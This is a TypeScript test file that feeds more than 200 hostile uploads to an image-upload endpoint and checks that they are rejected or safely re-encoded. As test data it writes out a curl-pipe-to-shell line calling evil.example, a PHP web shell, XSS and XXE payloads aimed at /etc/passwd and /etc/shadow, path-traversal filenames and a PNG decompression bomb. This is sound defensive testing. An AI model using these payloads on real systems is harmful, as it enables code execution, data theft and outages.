import { deflateSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import sharp from 'sharp';
import { sql } from 'drizzle-orm';
import { queryRows } from '../../src/db/database.ts';
import { setupTestApp, testEngine } from '../helpers.ts';
import { buildWorld, multipart, type World } from './world.ts';

/*
 * A generated corpus of hostile "images" thrown at the banner upload: renamed executables and archives,
 * SVG/HTML/XML posing as PNG, polyglots that start like an image and go on as something else, truncated
 * and corrupted images, images too big in bytes or in pixels (decompression bombs). Every one must be
 * refused with a 4xx and change nothing. Then real images carrying payloads (trailing HTML/ZIP, text
 * chunks, EXIF and comments with script): those may be accepted, but only as re-encoded pixels, served
 * with their stored type and nosniff.
 */

const ctx = setupTestApp();
let w: World;
let png: Buffer;
let jpeg: Buffer;

beforeAll(async () => {
  w = await buildWorld(ctx.app, ctx.db);
  const base = sharp({
    create: { width: 64, height: 48, channels: 3, background: { r: 200, g: 30, b: 60 } },
  });
  png = await base.clone().png().toBuffer();
  jpeg = await base.clone().jpeg({ quality: 80 }).toBuffer();
}, 120_000);

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}
const PNG_SIG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG whose header claims `width × height` with a tiny compressed body (the classic bomb shape). */
function pngWithSize(width: number, height: number, bitDepth = 1, colorType = 0, rows = 16): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = bitDepth;
  ihdr[9] = colorType;
  const rowBytes = 1 + Math.ceil((width * bitDepth) / 8);
  const idat = deflateSync(Buffer.alloc(Math.min(rowBytes * rows, 20_000_000)));
  return Buffer.concat([PNG_SIG, chunk('IHDR', ihdr), chunk('IDAT', idat), chunk('IEND', Buffer.alloc(0))]);
}

/** A real bomb: every row of a 10,000 × 10,000 image (100 Mpx), deflated to a few kilobytes. */
function pngBomb(): Buffer {
  return pngWithSize(10_000, 10_000, 1, 0, 10_000);
}

/** A JPEG whose frame header (SOF0) is patched to claim other dimensions. */
function jpegWithSize(src: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(src);
  for (let i = 2; i < out.length - 9; i++) {
    if (out[i] === 0xff && out[i + 1] !== undefined && out[i + 1]! >= 0xc0 && out[i + 1]! <= 0xc2) {
      out.writeUInt16BE(height, i + 5);
      out.writeUInt16BE(width, i + 7);
      return out;
    }
  }
  throw new Error('no SOF marker');
}

interface Sample {
  label: string;
  data: Buffer;
  filename: string;
  type: string;
}

const HEADERS: [string, Buffer][] = [
  [
    'ELF executable',
    Buffer.concat([Buffer.from('7f454c46020101000000000000000000', 'hex'), Buffer.alloc(200, 0x90)]),
  ],
  [
    'Windows PE',
    Buffer.concat([
      Buffer.from('MZ\x90\x00', 'latin1'),
      Buffer.alloc(60),
      Buffer.from('This program cannot be run in DOS mode.'),
    ]),
  ],
  ['Mach-O 64', Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(100)])],
  ['Mach-O fat', Buffer.concat([Buffer.from('cafebabe00000002', 'hex'), Buffer.alloc(100)])],
  ['shell script', Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n')],
  ['python script', Buffer.from('#!/usr/bin/env python3\nimport os; os.system("id")\n')],
  ['PHP', Buffer.from('<?php system($_GET["c"]); ?>')],
  ['JavaScript', Buffer.from('alert(document.cookie)//')],
  ['WebAssembly', Buffer.concat([Buffer.from('0061736d01000000', 'hex'), Buffer.alloc(40)])],
  ['ZIP', Buffer.concat([Buffer.from('504b0304140000000800', 'hex'), Buffer.alloc(60)])],
  ['gzip', deflateSync(Buffer.from('hello'))],
  ['7z', Buffer.from('377abcaf271c000400', 'hex')],
  ['RAR', Buffer.from('526172211a0700', 'hex')],
  [
    'PDF',
    Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n'),
  ],
  ['PostScript', Buffer.from('%!PS-Adobe-3.0\n(x) print\n')],
  ['OLE (MS Office)', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(100)])],
  [
    'GIF89a',
    Buffer.from(
      'GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
      'latin1',
    ),
  ],
  ['BMP', Buffer.concat([Buffer.from('BM', 'latin1'), Buffer.alloc(60)])],
  ['TIFF little-endian', Buffer.concat([Buffer.from('49492a00', 'hex'), Buffer.alloc(60)])],
  ['TIFF big-endian', Buffer.concat([Buffer.from('4d4d002a', 'hex'), Buffer.alloc(60)])],
  ['WebP', Buffer.concat([Buffer.from('RIFF\x24\x00\x00\x00WEBPVP8 ', 'latin1'), Buffer.alloc(40)])],
  ['ICO', Buffer.concat([Buffer.from('00000100', 'hex'), Buffer.alloc(40)])],
  ['PSD', Buffer.concat([Buffer.from('8BPS', 'latin1'), Buffer.alloc(40)])],
  ['HEIC', Buffer.concat([Buffer.from('00000018667479706865696300000000', 'hex'), Buffer.alloc(40)])],
  ['AVIF', Buffer.concat([Buffer.from('0000001c667479706176696600000000', 'hex'), Buffer.alloc(40)])],
  ['SVG with script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
  ['SVG with onload', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  [
    'SVG with XXE',
    Buffer.from('<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
  ],
  ['HTML', Buffer.from('<!doctype html><html><body><script>fetch("/api/users/1")</script></body></html>')],
  ['HTML without doctype', Buffer.from('<html><img src=x onerror=alert(1)></html>')],
  [
    'XML with XXE',
    Buffer.from('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/shadow">]><r>&e;</r>'),
  ],
  ['JSON', Buffer.from('{"BannerImage":"../../etc/passwd"}')],
  ['plain text', Buffer.from('just some text, not an image')],
  ['one byte', Buffer.from([0x89])],
  ['PNG signature only', PNG_SIG],
  ['JPEG SOI only', Buffer.from([0xff, 0xd8, 0xff])],
  ['NUL bytes', Buffer.alloc(4096)],
];

function corpus(): Sample[] {
  const out: Sample[] = [];
  const names: [string, string][] = [
    ['image.png', 'image/png'],
    ['photo.jpg', 'image/jpeg'],
    ['photo.jpeg', 'image/jpeg'],
    ['../../../../tmp/evil.png', 'image/png'],
  ];
  for (const [label, data] of HEADERS)
    for (const [filename, type] of names)
      out.push({ label: `${label} as ${filename}`, data, filename, type });

  // Polyglots: image magic bytes, then something else entirely.
  const tails: [string, Buffer][] = [
    ['HTML', Buffer.from('<html><script>alert(1)</script></html>')],
    ['ELF', HEADERS[0]![1]],
    ['ZIP', HEADERS[9]![1]],
    ['SVG', HEADERS[25]![1]],
    ['PHP', HEADERS[6]![1]],
  ];
  for (const [label, tail] of tails) {
    out.push({
      label: `PNG signature + ${label}`,
      data: Buffer.concat([PNG_SIG, tail]),
      filename: 'x.png',
      type: 'image/png',
    });
    out.push({
      label: `JPEG SOI + ${label}`,
      data: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), tail]),
      filename: 'x.jpg',
      type: 'image/jpeg',
    });
    out.push({
      label: `GIF header + ${label}`,
      data: Buffer.concat([Buffer.from('GIF89a'), tail]),
      filename: 'x.png',
      type: 'image/png',
    });
  }

  // Truncated images, cut at 24 points each.
  for (const [kind, src] of [
    ['PNG', png],
    ['JPEG', jpeg],
  ] as const)
    for (let i = 1; i <= 24; i++) {
      const cut = Math.floor((src.length * i) / 26);
      out.push({
        label: `${kind} truncated at ${cut}/${src.length}`,
        data: src.subarray(0, cut),
        filename: `t.${kind === 'PNG' ? 'png' : 'jpg'}`,
        type: `image/${kind.toLowerCase()}`,
      });
    }

  // Corrupted: header checksum broken, compressed data scrambled, markers destroyed.
  for (let i = 0; i < 8; i++) {
    const bad = Buffer.from(png);
    bad[29 + i]! ^= 0xff; // inside the IHDR CRC and the bytes after it
    out.push({ label: `PNG with corrupted byte ${29 + i}`, data: bad, filename: 'c.png', type: 'image/png' });
    const scrambled = Buffer.from(png);
    for (let j = 45 + i * 3; j < scrambled.length - 12; j += 7)
      scrambled[j] = (scrambled[j]! * 31 + i) & 0xff;
    out.push({
      label: `PNG with scrambled image data #${i}`,
      data: scrambled,
      filename: 's.png',
      type: 'image/png',
    });
    const noMarkers = Buffer.from(jpeg);
    for (let j = 4; j < noMarkers.length; j++) if (noMarkers[j] === 0xff) noMarkers[j] = 0x00 + i;
    out.push({
      label: `JPEG with its markers destroyed #${i}`,
      data: noMarkers,
      filename: 'm.jpg',
      type: 'image/jpeg',
    });
  }

  // Too many pixels (decompression bombs, lying headers) and too many bytes.
  const sizes: [number, number][] = [
    [100_000, 100_000],
    [65_535, 65_535],
    [50_000_000, 1],
    [1, 50_000_000],
    [7_000, 7_000],
    [2 ** 31 - 1, 2 ** 31 - 1],
    [0, 0],
    [0, 100],
  ];
  for (const [wd, ht] of sizes)
    out.push({
      label: `PNG header claiming ${wd}×${ht}`,
      data: pngWithSize(wd, ht),
      filename: 'big.png',
      type: 'image/png',
    });
  out.push({
    label: 'PNG bomb 10000×10000 (real, deflated)',
    data: pngBomb(),
    filename: 'bomb.png',
    type: 'image/png',
  });
  for (const [wd, ht] of [
    [65_500, 65_500],
    [10_000, 10_000],
    [0, 0],
  ] as const)
    out.push({
      label: `JPEG frame claiming ${wd}×${ht}`,
      data: jpegWithSize(jpeg, wd, ht),
      filename: 'big.jpg',
      type: 'image/jpeg',
    });
  out.push({
    label: 'JPEG padded past 5 MB',
    data: Buffer.concat([jpeg, Buffer.alloc(5 * 1024 * 1024 + 10)]),
    filename: 'pad.jpg',
    type: 'image/jpeg',
  });
  return out;
}

async function upload(s: { data: Buffer; filename: string; type: string }) {
  const body = multipart([
    { name: 'ClientID', value: String(w.townA.id) },
    { name: 'file', filename: s.filename, type: s.type, data: s.data },
  ]);
  return ctx.app.inject({
    method: 'POST',
    url: '/api/image',
    headers: { ...w.headers.superA, ...body.headers },
    payload: body.payload,
  });
}

async function storedState() {
  const rows = await queryRows<{ files: number; banner: string | null }>(
    ctx.db,
    sql`select (select count(*)::int from stored_files) as files,
               (select banner_image from clients where id = ${w.townA.id}) as banner`,
  );
  return rows[0]!;
}

describe('hostile upload corpus', () => {
  it('refuses every one of 200+ hostile files with a 4xx and stores nothing', async () => {
    const samples = corpus();
    expect(samples.length).toBeGreaterThanOrEqual(200);
    const before = await storedState();
    const accepted: string[] = [];
    const errors: string[] = [];
    const statuses = new Map<number, number>();
    for (const s of samples) {
      const res = await upload(s);
      statuses.set(res.statusCode, (statuses.get(res.statusCode) ?? 0) + 1);
      if (res.statusCode < 400) accepted.push(`${s.label} → ${res.statusCode}`);
      if (res.statusCode >= 500) errors.push(`${s.label} → ${res.statusCode} ${res.body.slice(0, 200)}`);
      else if (res.statusCode >= 400) expect(res.json(), s.label).toMatchObject({ code: expect.any(String) });
    }
    console.log(
      `uploads: ${samples.length} hostile files, ${accepted.length} accepted, ${errors.length} server errors ` +
        `(${[...statuses].map(([k, v]) => `${k}×${v}`).join(', ')}; ${testEngine})`,
    );
    expect(accepted).toEqual([]);
    expect(errors).toEqual([]);
    expect(await storedState()).toEqual(before);
  }, 300_000);

  it('keeps only pixels of a real image that carries a payload, and serves it as its stored type with nosniff', async () => {
    const html = '<html><script>alert("polyglot")</script></html>';
    const text = chunk('tEXt', Buffer.from(`Comment\u0000${html}`, 'latin1'));
    const pngWithText = Buffer.concat([png.subarray(0, 33), text, png.subarray(33)]);
    const exifJpeg = await sharp(jpeg)
      .withMetadata({
        exif: { IFD0: { ImageDescription: html, Artist: 'GPS 45.1N 69.2W' } },
      })
      .jpeg()
      .toBuffer();
    const carriers: Sample[] = [
      {
        label: 'PNG + trailing HTML',
        data: Buffer.concat([png, Buffer.from(html)]),
        filename: 'a.png',
        type: 'image/png',
      },
      {
        label: 'PNG + trailing ZIP',
        data: Buffer.concat([png, HEADERS[9]![1], Buffer.from('PKZIPMARK')]),
        filename: 'b.png',
        type: 'image/png',
      },
      { label: 'PNG with a tEXt chunk of HTML', data: pngWithText, filename: 'c.png', type: 'image/png' },
      {
        label: 'JPEG + trailing HTML',
        data: Buffer.concat([jpeg, Buffer.from(html)]),
        filename: 'd.jpg',
        type: 'image/jpeg',
      },
      { label: 'JPEG with EXIF holding HTML', data: exifJpeg, filename: 'e.jpg', type: 'image/jpeg' },
      {
        label: 'PNG named .jpg, declared text/html',
        data: Buffer.concat([png, Buffer.from(html)]),
        filename: 'f.jpg',
        type: 'text/html',
      },
    ];
    let accepted = 0;
    for (const s of carriers) {
      const res = await upload(s);
      expect(res.statusCode, s.label).toBeLessThan(500);
      if (res.statusCode >= 400) continue; // refusing is fine too
      accepted++;
      const { BannerImage, ContentType } = res.json() as { BannerImage: string; ContentType: string };
      const served = await ctx.app.inject({ url: `/api/files/image/${BannerImage}` });
      expect(served.statusCode, s.label).toBe(200);
      expect(served.headers['content-type'], s.label).toBe(ContentType);
      expect(served.headers['x-content-type-options'], s.label).toBe('nosniff');
      const bytes = served.rawPayload;
      const isPng = bytes.subarray(0, 8).equals(PNG_SIG);
      expect(isPng ? 'image/png' : 'image/jpeg', s.label).toBe(ContentType);
      const latin = bytes.toString('latin1');
      for (const marker of ['<script', 'polyglot', 'PKZIPMARK', 'PK\u0003\u0004', 'GPS 45.1N'])
        expect(latin.includes(marker), `${s.label}: "${marker}" survived`).toBe(false);
      // Nothing after the image's own end marker.
      if (isPng) expect(latin.endsWith('IEND\u00aeB`\u0082'), s.label).toBe(true);
      else expect(bytes.subarray(-2).equals(Buffer.from([0xff, 0xd9])), s.label).toBe(true);
    }
    // The point is what survives re-encoding: most of these are valid images and must have been stored.
    expect(accepted).toBeGreaterThanOrEqual(4);
  });
});
